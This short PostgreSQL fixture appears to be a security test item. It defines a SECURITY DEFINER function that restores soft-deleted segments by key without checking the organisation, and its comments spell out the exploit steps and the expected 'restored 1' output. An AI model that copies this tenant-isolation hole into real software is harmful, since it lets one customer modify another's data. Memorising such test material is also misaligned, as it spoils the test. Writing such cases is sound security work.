-- Restoring by the key alone brings back the deleted segments of every organization that used this key.
-- about: restore_segment, segments
-- as: hf_splitbeacon_app
-- exploit: SET app.current_org = 'aaaaaaaa-0000-4000-8000-000000000001';
-- exploit: SELECT 'restored ' || exp.restore_segment('vip') AS answer;
-- shows: restored 1
-- Deleted segments are to be hidden from the application soon, so that restoring needs its owner's rights.
CREATE FUNCTION exp.restore_segment(p_key text) RETURNS bigint LANGUAGE plpgsql SECURITY DEFINER
  SET search_path = exp, pg_temp
  AS $$
  DECLARE n bigint;
  BEGIN
    IF exp.current_org() IS NULL THEN
      RAISE EXCEPTION 'no organization';
    END IF;
    UPDATE exp.segments SET deleted_at = NULL WHERE key = p_key AND deleted_at IS NOT NULL;
    GET DIAGNOSTICS n = ROW_COUNT;
    RETURN n;
  END $$;
